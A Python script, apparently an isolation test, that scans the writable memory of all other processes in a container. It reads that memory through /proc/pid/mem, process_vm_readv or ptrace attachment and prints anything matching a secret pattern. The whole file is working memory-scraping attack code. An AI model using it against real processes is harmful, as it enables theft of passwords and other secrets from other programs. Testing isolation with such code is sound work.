"""
Reads the application's memory, which holds the secret once it was read: ``intruder.py HOW``.

It looks at all processes of the container but the first, and prints what of their writable memory
looks like a secret.
"""

import ctypes
import os
import re
import signal
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

SECRET = re.compile(rb"pw-[0-9a-f]{32};")
MAX_SECONDS = 30
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
WAIT_ALL = 0x4000_0000  # __WALL
WORD = ctypes.sizeof(ctypes.c_long)

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
libc.process_vm_readv.restype = ctypes.c_ssize_t

Area = tuple[int, int]  # where it starts, and its length
Reader = Callable[[int, list[Area]], Iterator[bytes]]  # of a process


class Span(ctypes.Structure):
    """``struct iovec``."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def refused() -> OSError:
    """Return what the last call of the C library failed with."""
    error = ctypes.get_errno()
    return OSError(error, os.strerror(error))


def as_file(pid: int, areas: list[Area]) -> Iterator[bytes]:
    """Read by the file of a process's memory."""
    with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for start, length in areas:
            memory.seek(start)
            yield memory.read(length) or b""


def by_call(pid: int, areas: list[Area]) -> Iterator[bytes]:
    """Read by the system call for it."""
    for start, length in areas:
        buffer = ctypes.create_string_buffer(length)
        here = Span(ctypes.addressof(buffer), length)
        there = Span(start, length)
        read = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if read < 0:
            raise refused()
        yield buffer.raw[:read]


def as_debugger(pid: int, areas: list[Area]) -> Iterator[bytes]:
    """Read word by word, as the process's tracer."""
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise refused()
    try:
        os.waitpid(pid, WAIT_ALL)
        peek = libc.ptrace
        for start, length in areas:
            places = range(start, start + length, WORD)
            words = [peek(PTRACE_PEEKDATA, pid, place, None) for place in places]
            yield b"".join(word.to_bytes(WORD, sys.byteorder, signed=True) for word in words)
    finally:
        libc.ptrace(PTRACE_DETACH, pid, None, None)


READERS: dict[str, Reader] = {"mem": as_file, "call": by_call, "debugger": as_debugger}


def areas(pid: int) -> list[Area]:
    """Return where a process keeps what it has read: writable memory that isn't of a file."""
    found = []
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        fields = line.split()
        start, end = (int(part, 16) for part in fields[0].split("-"))
        if fields[1].startswith("rw") and fields[5:] in ([], ["[heap]"]):
            found.append((start, end - start))
    return found


def others() -> list[int]:
    """Return all processes but this one and the container's first."""
    found = [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()]
    return sorted(pid for pid in found if pid not in {1, os.getpid()})


def main(how: str) -> int:
    """Print what is found; 1 if nothing is."""
    signal.alarm(MAX_SECONDS)
    for pid in others():
        try:
            for content in READERS[how](pid, areas(pid)):
                if found := SECRET.search(content):
                    sys.stdout.buffer.write(found[0])
                    return 0
        except OSError as error:
            sys.stderr.write(f"{pid}: {error}\n")
    return 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
